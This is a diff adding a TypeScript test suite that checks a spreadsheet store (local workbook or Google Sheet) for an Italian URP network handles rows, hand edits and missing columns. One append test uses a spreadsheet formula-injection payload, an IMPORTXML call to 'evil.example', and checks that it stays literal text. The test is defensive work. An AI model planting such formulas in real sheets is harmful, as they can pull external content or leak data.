@@ -1,0 +1,205 @@
+import { randomUUID } from "node:crypto";
+import {
+  type CellValue,
+  decodeBuonePrassi,
+  decodeImpostazioni,
+  decodeReferenti,
+  decodeRiunioni,
+  formatProblem,
+  plainDateToSerial,
+} from "@rete-urp/shared";
+import type { Store } from "@rete-urp/sheets-sync";
+import { afterEach, beforeEach, describe, expect, test } from "vitest";
+
+/**
+ * The store contract: the same behaviour from the local workbook and from the Google Sheet.
+ * Each store's test file calls describeStoreContract with a harness that can edit the
+ * underlying data "by hand", as the coordinator does.
+ */
+export interface ContractHarness {
+  store: Store;
+  /** Replaces a tab's content as the coordinator would by hand (row 1 = headers); creates the tab if missing. */
+  seed(tab: string, grid: CellValue[][]): Promise<void>;
+  /** The tab as stored: each cell's value and whether it is a formula. */
+  stored(tab: string): Promise<{ value: CellValue; formula: boolean }[][]>;
+  cleanup(): Promise<void>;
+}
+
+const REFERENTI_HEADERS = ["ID", "Nome", "Cognome", "Ente", "Ruolo", "Email", "Telefono", "Attivo", "Note"];
+const RIUNIONI_HEADERS = ["ID", "Data", "Inizio", "Fine", "Tipo", "Stato", "Luogo", "Videoconferenza", "Ordine del giorno", "Verbale", "Note"];
+const PRASSI_HEADERS = ["ID", "Data", "Titolo", "Descrizione", "Link", "Estratto", "Tag", "Ente", "Autore", "Email autore"];
+
+const jan19 = plainDateToSerial({ year: 2027, month: 1, day: 19 });
+const ten = 10 / 24;
+
+async function seedStandard(h: ContractHarness) {
+  await h.seed("Referenti", [
+    REFERENTI_HEADERS,
+    ["r-1", "Giulia", "Bianchi", "Unione", "Coordinatore", "giulia.bianchi@example.it", "0545 38111", "Sì", ""],
+    ["r-2", "Marco", "Ricci", "Comune di Lugo", "Referente", "marco.ricci@example.it", null, null, null],
+  ]);
+  await h.seed("Riunioni", [
+    RIUNIONI_HEADERS,
+    ["m-1", jan19, ten, 12 / 24, "Ordinaria", "Confermata", "Sala del Consiglio, Lugo", "https://meet.example.it/urp", "", "", ""],
+  ]);
+  await h.seed("Buone prassi", [
+    PRASSI_HEADERS,
+    ["p-1", jan19 - 30, "Modulistica unica", "Moduli uguali in tutti i comuni", "https://example.it/moduli", "", "modulistica, accessibilità", "Lugo", "Marco Ricci", "marco.ricci@example.it"],
+  ]);
+  await h.seed("Impostazioni", [
+    ["Chiave", "Valore"],
+    ["Ora inizio", "09:30"],
+  ]);
+}
+
+export function describeStoreContract(name: string, createHarness: () => Promise<ContractHarness>): void {
+  describe(`store contract: ${name}`, () => {
+    let h: ContractHarness;
+    beforeEach(async () => {
+      h = await createHarness();
+    });
+    afterEach(async () => {
+      await h.store.close();
+      await h.cleanup();
+    });
+
+    test("readAll() returns every tab with dates as serial numbers and times as fractions", async () => {
+      await seedStandard(h);
+      const tabs = await h.store.readAll();
+      const meetings = decodeRiunioni(tabs.Riunioni);
+      expect(meetings.problems).toEqual([]);
+      expect(meetings.records).toEqual([
+        expect.objectContaining({ id: "m-1", date: { year: 2027, month: 1, day: 19 }, startMinutes: 600, endMinutes: 720 }),
+      ]);
+      const roster = decodeReferenti(tabs.Referenti);
+      expect(roster.records.map((r) => [r.email, r.ente, r.active])).toEqual([
+        ["giulia.bianchi@example.it", "Unione", true],
+        ["marco.ricci@example.it", "Lugo", true],
+      ]);
+      expect(decodeBuonePrassi(tabs["Buone prassi"]).records[0]).toMatchObject({
+        date: "2026-12-20",
+        tags: ["modulistica", "accessibilità"],
+      });
+      expect(decodeImpostazioni(tabs.Impostazioni).settings.startTime).toBe("09:30");
+    });
+
+    test("append() puts values under their headers and keeps strings literal, never formulas", async () => {
+      await seedStandard(h);
+      await h.store.append("Buone prassi", [
+        {
+          id: "p-2",
+          date: jan19,
+          title: '=IMPORTXML("https://evil.example","//a")',
+          url: "https://example.it/x",
+          tags: "+39, @tutti",
+          ente: "Fusignano",
+          author: "-Anna",
+          authorEmail: "anna@example.it",
+        },
+      ]);
+      const practices = decodeBuonePrassi((await h.store.readAll())["Buone prassi"]);
+      expect(practices.problems).toEqual([]);
+      expect(practices.records.map((p) => p.id)).toEqual(["p-1", "p-2"]);
+      expect(practices.records[1]).toMatchObject({
+        date: "2027-01-19",
+        title: '=IMPORTXML("https://evil.example","//a")',
+        tags: ["+39", "@tutti"],
+        ente: "Fusignano",
+        author: "-Anna",
+      });
+      const stored = await h.stored("Buone prassi");
+      const titleCell = stored[2]![2]!;
+      expect(titleCell).toEqual({ value: '=IMPORTXML("https://evil.example","//a")', formula: false });
+    });
+
+    test("append() of several rows keeps their order and adds nothing else", async () => {
+      await seedStandard(h);
+      const ids = [randomUUID(), randomUUID(), randomUUID()];
+      await h.store.append(
+        "Buone prassi",
+        ids.map((id, i) => ({ id, date: jan19 + i, title: `Prassi ${i + 1}` })),
+      );
+      const practices = decodeBuonePrassi((await h.store.readAll())["Buone prassi"]);
+      expect(practices.records.map((p) => p.title)).toEqual(["Modulistica unica", "Prassi 1", "Prassi 2", "Prassi 3"]);
+      expect(practices.records.slice(1).map((p) => p.id)).toEqual(ids);
+    });
+
+    test("a hand-edited tab: reordered columns, an extra column, a deleted row, dates typed as text, a bad row", async () => {
+      await h.seed("Riunioni", [
+        ["Tipo", "Data", "Commenti del coordinatore", "ID", "Inizio", "Stato", "Luogo"],
+        ["Ordinaria", "16/03/2027", "portare i dati", "m-2", "10:00", "Pianificata", "Bagnacavallo"],
+        [null, null, null, null, null, null, null],
+        ["Urgente", "2027-02-02", "", "m-3", "15:30", "", "Online"],
+        ["Ordinaria", "31/02/2027", "", "m-4", "", "", ""],
+      ]);
+      const decoded = decodeRiunioni((await h.store.readAll()).Riunioni);
+      expect(decoded.records.map((m) => [m.id, m.kind, m.date.month, m.date.day, m.startMinutes])).toEqual([
+        ["m-2", "ordinary", 3, 16, 600],
+        ["m-3", "urgent", 2, 2, 930],
+      ]);
+      expect(decoded.problems.map(formatProblem)).toEqual(['Riunioni!B5: data non valida "31/02/2027"']);
+
+      // Appending lands under the moved headers and leaves the extra column alone.
+      await h.store.append("Riunioni", [{ id: "m-5", date: jan19, kind: "Ordinaria", location: "Lugo" }]);
+      const stored = await h.stored("Riunioni");
+      const last = stored[stored.length - 1]!.map((cell) => cell.value);
+      expect(last[3]).toBe("m-5");
+      expect(last[0]).toBe("Ordinaria");
+      expect(last[6]).toBe("Lugo");
+      expect(last[2] ?? null).toBeNull();
+      expect(decodeRiunioni((await h.store.readAll()).Riunioni).records.map((m) => m.id)).toEqual(["m-2", "m-3", "m-5"]);
+    });
+
+    test("fillMissingIds() fills only empty IDs of non-blank rows, in place", async () => {
+      await seedStandard(h);
+      await h.seed("Referenti", [
+        REFERENTI_HEADERS,
+        ["r-1", "Giulia", "Bianchi", "Unione", "Coordinatore", "giulia.bianchi@example.it", "", "", ""],
+        [null, "Sara", "Neri", "Cotignola", "Referente", "sara.neri@example.it", "", "", ""],
+        [null, null, null, null, null, null, null, null, null],
+        ["", "Luca", "Verdi", "Conselice", "Operatore URP", "luca.verdi@example.it", "", "No", ""],
+      ]);
+      let n = 0;
+      const filled = await h.store.fillMissingIds(() => `new-${++n}`);
+      expect(filled).toBe(2);
+      const roster = decodeReferenti((await h.store.readAll()).Referenti);
+      expect(roster.missingIds).toBe(0);
+      expect(roster.records.map((r) => [r.id, r.lastName, r.active])).toEqual([
+        ["r-1", "Bianchi", true],
+        ["new-1", "Neri", true],
+        ["new-2", "Verdi", false],
+      ]);
+      expect(await h.store.fillMissingIds(() => "never")).toBe(0);
+    });
+
+    test("init() creates the missing tabs and headers and keeps existing data", async () => {
+      await h.seed("Referenti", [
+        ["Nome", "Cognome", "Ente", "Ruolo", "Email", "Colonna mia"],
+        ["Giulia", "Bianchi", "Unione", "Coordinatore", "giulia.bianchi@example.it", "da tenere"],
+      ]);
+      const report = await h.store.init();
+      expect(report.createdTabs).toEqual(["Riunioni", "Buone prassi", "Impostazioni"]);
+      expect(report.addedHeaders).toEqual(["Referenti!ID", "Referenti!Telefono", "Referenti!Attivo", "Referenti!Note"]);
+      const tabs = await h.store.readAll();
+      expect(tabs.Riunioni?.[0]).toEqual(RIUNIONI_HEADERS);
+      expect(tabs.Referenti?.[1]?.slice(0, 6)).toEqual(["Giulia", "Bianchi", "Unione", "Coordinatore", "giulia.bianchi@example.it", "da tenere"]);
+      const roster = decodeReferenti(tabs.Referenti);
+      expect(roster.problems).toEqual([]);
+      expect(roster.missingIds).toBe(1);
+      const again = await h.store.init();
+      expect(again).toEqual({ createdTabs: [], addedHeaders: [] });
+    });
+
+    test("a missing required column is reported for the tab, and the other tabs still read", async () => {
+      await seedStandard(h);
+      await h.seed("Buone prassi", [["ID", "Titolo"], ["p-9", "Senza data"]]);
+      const tabs = await h.store.readAll();
+      const practices = decodeBuonePrassi(tabs["Buone prassi"]);
+      expect(practices.records).toEqual([]);
+      expect(practices.problems.map(formatProblem)).toEqual([
+        'Buone prassi: manca la colonna obbligatoria "Data": aggiungila nella riga 1',
+      ]);
+      expect(decodeReferenti(tabs.Referenti).records).toHaveLength(2);
+    });
+  });
+}
